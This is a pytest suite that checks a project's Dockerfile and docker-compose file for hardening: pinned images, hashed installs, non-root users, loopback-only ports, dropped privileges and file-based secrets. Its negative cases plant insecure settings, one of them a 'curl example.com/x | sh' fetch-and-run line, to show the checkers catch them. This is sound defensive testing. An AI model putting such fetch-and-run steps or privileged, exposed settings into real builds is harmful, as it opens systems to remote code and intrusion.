"""infra/docker and infra/compose: pinned, hashed, nobody's root, on loopback alone."""

import json
import os
import re
import shlex
import stat
import subprocess
import sys
import sysconfig
import tomllib
from pathlib import Path

import pytest
import yaml
from infra_files import INFRA, ROOT, Document, spoiled, text

from infra.compose.make_secrets import make

DOCKERFILE = text("infra/docker/Dockerfile")
COMPOSE = text("infra/compose/compose.yaml")
VERSION = tomllib.loads(text("pyproject.toml"))["project"]["version"]
SCRIPTS = Path(sysconfig.get_path("scripts"))


def hadolint(words: str) -> str:
    done = subprocess.run(
        [str(SCRIPTS / "hadolint"), "--no-color", "-"], input=words, capture_output=True, text=True, check=False
    )
    return done.stdout


def test_hadolint_has_nothing_to_say() -> None:
    assert hadolint(DOCKERFILE) == ""


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("FROM python:3.12.11-slim-bookworm AS runtime", "FROM python:latest AS runtime", "DL3007"),
        ("FROM python:3.12.11-slim-bookworm AS runtime", "FROM python AS runtime", "DL3006"),
        ("FROM cpu AS cuda\n", "FROM cpu AS cuda\nUSER root\n", "DL3002"),
        ("pip install --no-cache-dir --no-deps --require-hashes -r uv.lock", "pip install --no-cache-dir uv", "DL3013"),
        ('CMD ["mskray", "--help"]', "CMD mskray --help", "DL3025"),
    ],
)
def test_hadolint_refuses_a_spoiled_file(old: str, new: str, said: str) -> None:
    assert said in hadolint(spoiled(DOCKERFILE, old, new))


def image_faults(words: str) -> list[str]:
    """What a Dockerfile leaves open that hadolint does not ask for."""
    lines = re.sub(r"\\\n\s*", " ", re.sub(r"(?m)^#.*\n", "", words)).splitlines()
    stages: dict[str, list[str]] = {}
    parents: dict[str, str] = {}
    found = []
    for line in lines:
        if match := re.match(r"FROM (\S+)(?: AS (\S+))?$", line):
            source, name = match[1], match[2] or f"stage {len(stages)}"
            stages[name], parents[name] = [], source
            if source not in stages and not re.fullmatch(
                r"[\w./-]+:\d+\.\d+\.\d+[\w.-]*(@sha256:[0-9a-f]{64})?", source
            ):
                found.append(f"base {source} has no exact version")
        elif line and stages:
            stages[list(stages)[-1]].append(line)
    for name, body in stages.items():
        for line in body:
            for step in re.split(r"&&|;|\|\|", line):
                own = "--no-deps --no-build-isolation ." in step
                if re.search(r"\bpip install\b", step) and "--require-hashes" not in step and not own:
                    found.append(f"{name}: packages without hashes")
                if re.search(r"npm (install|i)\b", step):
                    found.append(f"{name}: npm without its lock")
                if re.search(r"\b(curl|wget)\b", step):
                    found.append(f"{name}: something fetched")
            if re.match(r"(ARG|ENV) .*(TOKEN|PASSWORD|SECRET|_KEY)", line):
                found.append(f"{name}: a secret in a layer")
            if line.startswith("ADD "):
                found.append(f"{name}: ADD")
    for name in ("cpu", "cuda", "mlflow", "store"):
        lineage, stage = list[str](), name
        while stage in stages:
            lineage, stage = [*stages[stage], *lineage], parents[stage]
        users = [line.split()[1] for line in lineage if line.startswith("USER ")]
        if not users or users[-1] != "1000:1000":
            found.append(f"{name}: runs as {users[-1] if users else 'root'}")
        if not any(line.startswith("HEALTHCHECK ") for line in lineage):
            found.append(f"{name}: no HEALTHCHECK")
    return found


def test_images_are_pinned_hashed_and_nobodys_root() -> None:
    assert image_faults(DOCKERFILE) == []


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("FROM node:22.20.0-bookworm-slim", "FROM node:22", "no exact version"),
        ("--require-hashes -r mlflow.in", "-r mlflow.in", "without hashes"),
        ("npm ci", "npm install", "without its lock"),
        ("USER 1000:1000\n", "", "runs as root"),
        ("HEALTHCHECK --interval=15s --timeout=5s --start-period=60s --retries=8", "LABEL a=b", "no HEALTHCHECK"),
        ("RAY_AUTH_MODE=token", "RAY_AUTH_TOKEN=abc", "a secret in a layer"),
        ("COPY jobs/ /app/jobs/", "ADD jobs/ /app/jobs/", "ADD"),
        ("RUN groupadd", "RUN curl -fsS example.com/x | sh && groupadd", "something fetched"),
    ],
)
def test_an_image_that_is_not_is_found(old: str, new: str, said: str) -> None:
    assert any(said in fault for fault in image_faults(spoiled(DOCKERFILE, old, new)))


def test_a_build_sees_what_it_copies_and_nothing_else() -> None:
    rules = [line for line in text("infra/docker/Dockerfile.dockerignore").splitlines() if line and line[0] != "#"]
    assert rules[0] == "*"
    let_in = [rule[1:] for rule in rules if rule.startswith("!")]
    copied = [
        source.rstrip("/")
        for line in re.findall(r"(?m)^COPY (?!--from)(.*) \S+$", DOCKERFILE)
        for source in line.split()
        if "$" not in source
    ]
    for source in copied:
        assert (ROOT / source).exists(), source
        assert source.split("/")[0] in let_in, source
    tracked = subprocess.run(["git", "ls-files", *let_in], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    assert not re.search(r"(?m)\.(pem|key|env)$|secret", tracked)


def test_uv_is_taken_from_the_lock_with_its_hashes(tmp_path: Path) -> None:
    script = re.search(r"awk '([^']+)' requirements\.lock", DOCKERFILE)
    assert script is not None
    done = subprocess.run(["awk", script[1], "requirements.lock"], cwd=ROOT, capture_output=True, text=True, check=True)
    lines = done.stdout.splitlines()
    assert lines[0].startswith("uv==")
    assert len(lines) > 1
    assert all(line.strip().startswith("--hash=sha256:") for line in lines[1:])
    assert not lines[-1].endswith("\\")


def test_the_page_is_built_with_a_node_that_it_takes() -> None:
    wanted = json.loads(text("serve/page/package.json"))["engines"]["node"].removeprefix(">=")
    used = re.search(r"FROM node:(\d+)\.", DOCKERFILE)
    assert used is not None
    assert int(used[1]) >= int(wanted)


# --- compose ---


def compose_config(words: str, folder: Path) -> "subprocess.CompletedProcess[str]":
    place = folder / "infra" / "compose"
    make(place / "secrets")
    (place / "compose.yaml").write_text(words, encoding="utf-8")
    command = [
        "docker-compose",
        "--project-directory",
        str(place),
        "-f",
        str(place / "compose.yaml"),
        "config",
        "--quiet",
    ]
    return subprocess.run(command, capture_output=True, text=True, check=False, env={"PATH": os.environ["PATH"]})


@pytest.mark.system("docker-compose")
def test_docker_compose_takes_the_file(tmp_path: Path) -> None:
    done = compose_config(COMPOSE, tmp_path)
    assert done.returncode == 0, done.stderr


@pytest.mark.system("docker-compose")
@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("    restart: unless-stopped\n", "    restarts: unless-stopped\n"),
        ("condition: service_healthy}", "condition: healthy}"),
        ('volumes: ["store:/data"]', 'volumes: ["stores:/data"]'),
    ],
)
def test_docker_compose_refuses_a_spoiled_file(old: str, new: str, tmp_path: Path) -> None:
    assert compose_config(spoiled(COMPOSE, old, new), tmp_path).returncode != 0


def compose_faults(words: str) -> list[str]:
    """What a service of a compose file may do that it need not."""
    file: Document = yaml.safe_load(words)
    found = []
    for name, service in file["services"].items():
        found += [
            f"{name}: {port} beyond loopback"
            for port in service.get("ports", [])
            if not re.fullmatch(r"127\.0\.0\.1:\d+:\d+", str(port))
        ]
        for section in ("networks", "secrets"):
            lost = set(service.get(section, [])) - file[section].keys()
            found += [f"{name}: {section} has no {each}" for each in lost]
        if service.get("privileged") or service.get("network_mode") or service.get("cap_add"):
            found.append(f"{name}: more than its own")
        if service.get("cap_drop") != ["ALL"] or service.get("security_opt") != ["no-new-privileges:true"]:
            found.append(f"{name}: keeps privileges")
        if not service.get("read_only"):
            found.append(f"{name}: may write to its image")
        if str(service.get("user", "0")).split(":")[0] in ("0", "root"):
            found.append(f"{name}: root")
        if "mem_limit" not in service:
            found.append(f"{name}: without limit")
        if not re.fullmatch(r"[\w./-]+:v?\d+\.\d+\.\d+[\w.-]*", service["image"]):
            found.append(f"{name}: image without a version")
        for volume in service.get("volumes", []):
            if volume.startswith((".", "/")) and not volume.endswith(":ro"):
                found.append(f"{name}: writes to {volume}")
            if "docker.sock" in volume:
                found.append(f"{name}: the engine's socket")
        for key, value in service.get("environment", {}).items():
            if re.search("TOKEN|PASSWORD|SECRET|KEY", key) and not str(value).startswith("/run/secrets/"):
                found.append(f"{name}: {key} in plain text")
        starts_ray = "ray start" in " ".join(service.get("command", []))
        if starts_ray and service["environment"].get("RAY_AUTH_MODE") != "token":
            found.append(f"{name}: Ray without a token")
    if not file["networks"]["ray"].get("internal"):
        found.append("the network of the nodes has a way out")
    found += [f"secret {name} is no file" for name, each in file["secrets"].items() if set(each) != {"file"}]
    return found


def test_services_may_do_only_what_they_must() -> None:
    assert compose_faults(COMPOSE) == []


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("127.0.0.1:8265:8265", "8265:8265", "beyond loopback"),
        ("127.0.0.1:5000:5000", "0.0.0.0:5000:5000", "beyond loopback"),
        ("RAY_AUTH_MODE: token", "RAY_AUTH_MODE: disabled", "Ray without a token"),
        ('    user: "472:472"\n', '    user: "472:472"\n    privileged: true\n', "more than its own"),
        ("networks: [ray, edge]", "networks: [ray, outside]", "networks has no outside"),
        ("secrets: [grafana_password]", "secrets: [password]", "secrets has no password"),
        ("cap_drop: [ALL]", "cap_drop: [NET_RAW]", "keeps privileges"),
        ("read_only: true", "read_only: false", "may write"),
        ('user: "1000:1000"', 'user: "0:0"', "root"),
        ("mem_limit: 2g", "cpus: 1", "without limit"),
        ("prom/prometheus:v3.5.0", "prom/prometheus:latest", "image without a version"),
        ("rules.yml:ro", "rules.yml", "writes to"),
        ("GF_SECURITY_ADMIN_PASSWORD__FILE: /run/secrets/grafana_password", "GF_SECURITY_ADMIN_PASSWORD: a", "plain"),
        ("internal: true", "internal: false", "way out"),
        ("ray_token: {file: secrets/ray_token}", "ray_token: {external: true}", "is no file"),
    ],
)
def test_a_service_that_may_do_more_is_found(old: str, new: str, said: str) -> None:
    assert any(said in fault for fault in compose_faults(spoiled(COMPOSE, old, new)))


def test_what_compose_refers_to_is_there(tmp_path: Path) -> None:
    file = yaml.safe_load(COMPOSE)
    made = {path.name for path in make(tmp_path / "secrets")}
    named = {Path(each["file"]).name for each in file["secrets"].values()}
    named |= {Path(each).name for service in file["services"].values() for each in service.get("env_file", [])}
    assert named == made
    for name, service in file["services"].items():
        for volume in service.get("volumes", []):
            source = volume.split(":")[0]
            assert source in file["volumes"] or (INFRA / "compose" / source).exists(), volume
        image, _, tag = service["image"].partition(":")
        if image == "mskray":
            assert tag == f"{VERSION}-{service['build']['target']}", name
            assert f" AS {service['build']['target']}\n" in DOCKERFILE
            for volume in service.get("volumes", []):
                assert f"install -d -o 1000 -g 1000 {volume.split(':')[1]}\n" in DOCKERFILE


@pytest.mark.parametrize("service", ["head", "worker-1"])
def test_ray_start_knows_every_option(service: str) -> None:
    from ray.scripts.scripts import start

    known = {option for parameter in start.params for option in parameter.opts}
    words = shlex.split(" ".join(yaml.safe_load(COMPOSE)["services"][service]["command"]).partition("ray start ")[2])
    assert words
    assert {word.split("=")[0] for word in words} <= known


def test_the_head_tells_the_address_at_which_workers_reach_it() -> None:
    """With a second network, which has a way out, Ray would take the address there."""
    services = yaml.safe_load(COMPOSE)["services"]
    names = services["head"]["networks"]["ray"]["aliases"]
    assert all(service["networks"] == ["ray"] for name, service in services.items() if name.startswith("worker"))
    asked = re.search(r'--node-ip-address="\$\$\(getent hosts (\S+) ', services["head"]["command"][2])
    assert asked is not None
    assert asked[1] in names
    assert not services["head"]["networks"]["edge"]


@pytest.mark.parametrize(
    ("service", "asked"),
    [
        ("store", ["weed", "server", "-h"]),
        pytest.param("mlflow", ["mlflow", "server", "--help"], marks=pytest.mark.slow),
    ],
)
def test_a_program_knows_every_option(service: str, asked: list[str]) -> None:
    done = subprocess.run([str(SCRIPTS / asked[0]), *asked[1:]], capture_output=True, text=True, check=False)
    known = set(re.findall(r"(?m)^\s*(?:-\w, )?(--?[\w.-]+)", done.stdout + done.stderr))
    used = {word.split("=")[0] for word in yaml.safe_load(COMPOSE)["services"][service]["command"][2:]}
    assert used <= known, used - known


def test_secrets_are_new_closed_and_kept(tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    first = make(one)
    assert len(make(two)) == len(first) == 5
    assert stat.S_IMODE(one.stat().st_mode) == 0o700
    for path in first:
        assert stat.S_IMODE(path.stat().st_mode) == 0o444
        assert path.read_text() != (two / path.name).read_text()
        assert len(path.read_text()) >= 32
    before = {path.name: path.read_text() for path in first}
    assert make(one) == []
    (one / "s3_identities.json").unlink()
    assert {path.name for path in make(one)} == {"aws_credentials", "s3_identities.json"}
    assert (one / "ray_token").read_text() == before["ray_token"]
    key = re.search("aws_secret_access_key = (.+)", (one / "aws_credentials").read_text())
    assert key is not None
    assert key[1] != re.search("aws_secret_access_key = (.+)", before["aws_credentials"])[1]  # type: ignore[index]
    assert key[1] in (one / "s3_identities.json").read_text()


def test_git_never_takes_the_secrets() -> None:
    done = subprocess.run(["git", "check-ignore", "-q", "infra/compose/secrets/ray_token"], cwd=ROOT, check=False)
    assert done.returncode == 0


def test_making_secrets_prints_none(tmp_path: Path) -> None:
    command = [sys.executable, str(INFRA / "compose" / "make_secrets.py"), "--out", str(tmp_path / "made")]
    said = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    assert "ray_token" in said
    assert (tmp_path / "made" / "ray_token").read_text() not in said
